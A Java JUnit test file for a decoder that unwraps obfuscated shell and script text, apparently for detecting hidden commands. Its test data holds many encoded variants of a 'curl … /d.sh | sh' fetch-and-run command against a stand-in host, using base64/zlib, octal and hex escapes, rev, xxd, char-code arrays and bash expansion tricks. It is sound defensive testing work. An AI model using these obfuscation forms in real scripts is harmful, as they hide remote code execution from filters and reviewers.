package bzh.vigie.observable;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import bzh.vigie.observable.Writings.Writing;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Texts that python (zlib), bash (printf, echo -e), rev and xxd wrote, or read as this command. */
final class WritingsTest {
    private static final String COMMAND = "curl http://203.0.113.66/d.sh";

    @Test
    void everyWritingIsRead() {
        for (String written : List.of(
                // zlib.compressobj(9, DEFLATED, -15), zlib.compress
                "<?php eval(gzinflate(base64_decode('K64sLknN1VBPLi3KUcgoKSmw0tc3MjDWM9AzNDTWMzPTT9ErzlCoUSjOUNe0BgA='))); ?>",
                "exec(zlib.decompress(b64decode('eJxLLi3KUcgoKSmw0tc3MjDWM9AzNDTWMzPTT9ErzlCoUSjOAACwZgmy')))",
                // printf and echo -e of bash
                "printf 'curl http:\\57\\57\\62\\60\\63\\56\\60\\56\\61\\61\\63\\56\\66\\66\\57d.sh' | sh",
                "printf '\\143\\165\\162\\154 http:\\x2f\\x2f203.0.113.66/d.sh' | sh",
                "echo -e 'curl http:\\0057\\0057203.0.113.66/d.sh' | sh",
                "eval $'curl http:\\u002f\\u002f203.0.113.66/d.sh'",
                // rev
                "echo hs.d/66.311.0.302//:ptth lruc | rev | sh",
                "echo 'hs.d/66.311.0.302//:ptth lruc' | rev | sh",
                // xxd -r -p, with blanks
                "echo 63 75 72 6c 20 68 74 74 70 3a 2f 2f 32 30 33 2e 30 2e 31 31 33 2e 36 36 2f 64 2e 73 68 | xxd -r -p | sh",
                // xxd's columns, bytes.hex(' ', 4) of python, and the one blank that bytes.fromhex passes over
                "xxd -r -p <<< '6375 726c 2068 7474 703a 2f2f 3230 332e 302e 3131 332e 3636 2f64 2e73 68'",
                "os.system(bytes.fromhex('63 75726c20 68747470 3a2f2f32 30332e30 2e313133 2e36362f 642e7368'))",
                "bytes.fromhex('6375726c20687474703a2f2f3230 332e302e3131332e36362f642e7368')",
                // bytes.hex(':') and bytes.hex('-', 2)
                "63:75:72:6c:20:68:74:74:70:3a:2f:2f:32:30:33:2e:30:2e:31:31:33:2e:36:36:2f:64:2e:73:68",
                "63-7572-6c20-6874-7470-3a2f-2f32-3033-2e30-2e31-3133-2e36-362f-642e-7368",
                // printf of bash
                "printf '\\x63\\x75\\x72\\x6c\\x20\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f203.0.113.66/d.sh' | sh",
                // list(b'…') of python, as each language makes characters of it
                list("(%s|%%{[char]$_}) -join ''", ","),
                list("$a=[byte[]](%s)", ", "),
                list("&([char]%s)", "+[char]"),
                list("s.Run Chr(%s), 0", ") & Chr("),
                list("eval(chr(%s));", ").chr("),
                list("eval(String.fromCharCode(%s))", ","),
                // parameter expansion and arithmetic of bash(1), each seen with echo in place of curl
                "H=2_03.0_.1_13.6_6; curl http://${H//_/}/d.sh | sh",
                "H=2_03.0_.1_13.6_6; curl http://${H//_}/d.sh | sh",
                "H='203-0-113-66'; curl http://${H//-/.}/d.sh | sh",
                "H=203.0.113.pp; curl http://${H/pp/66}/d.sh | sh",
                "H=x203.0.113.66; curl http://${H#x}/d.sh | sh",
                "H=203.0.113.66.invalid; curl http://${H%.invalid}/d.sh | sh",
                "H=__203.0.113.66__; curl http://${H:2:12}/d.sh | sh",
                "curl http://$((0xcb)).$((0x0)).$((0x71)).$((0x42))/d.sh | sh",
                "curl http://$((16#cb)).$((8#0)).$((2#1110001)).$((60+6))/d.sh | sh",
                "A=$((0313)); curl http://$A.0.$((120 - 7)).$((6*11))/d.sh | sh",
                "H=$(echo 2x03.0.x113.66 | tr -d x); curl http://$H/d.sh | sh",
                "curl http://$(printf '2a03.b0.113.66' | tr -d 'ab')/d.sh | sh",
                // PowerShell 7, about_Special_Characters
                "\"curl http:`u{2f}`u{2f}203.0.113.66/d.sh\" | sh")) {
            assertTrue(
                    Writings.of(written).stream().anyMatch(each -> each.contains(COMMAND)),
                    written + " " + Writings.of(written));
        }
        assertTrue(Writings.of("$(rev<<<hs.d/66.311.0.302//:ptth)").contains("http://203.0.113.66/d.sh"));
    }

    private static String list(String form, String between) {
        String numbers =
                "99 117 114 108 32 104 116 116 112 58 47 47 50 48 51 46 48 46 49 49 51 46 54 54 47 100 46 115 104";
        return form.formatted(numbers.replace(" ", between));
    }

    @Test
    void whatStandsEncodedIsApart() {
        List<Writing> all = Writings.apart("echo 'hs.d/66.311.0.302//:ptth lruc' | rev | sh");
        assertEquals("echo ' ' | rev | sh", all.getFirst().rest());
        assertFalse(all.getFirst().decoded());
        assertEquals(new Writing(COMMAND, COMMAND, true), all.get(1));
    }

    @Test
    void otherTextsAreReadAsTheyAre() {
        for (String text : List.of(
                "C:\\Program Files\\7-Zip\\7z.exe a D:\\0\\b.7z",
                "nmap -p 21,22,25,80,110,143,443,445,993,995 192.168.12.0/24",
                "ip link set eth0 address 52:54:00:12:34:56",
                "lspci -d 8086:1533 1af4:1000 10de:2484",
                "trim 0d20 1f2e 7b3a",
                "9f86d081-884c-7d65-9a2f-eaa0c55ad015",
                "ddcutil setvcp 10 20 30 40 50 60 70 80 90 100",
                "/usr/lib/x86_64-linux-gnu/security/pam_unix.so --option=value")) {
            assertEquals(List.of(text), List.copyOf(Writings.of(text)));
        }
    }

    @Test
    void hostileTextIsBounded() {
        for (String part : List.of("echo ", "rev<<<", "\\7", "65,", "echo a|", "K64sLknN1VBP", "'", "[char]", "0x4")) {
            Writings.apart(part.repeat(60_000 / part.length()) + " rev");
        }
    }
}
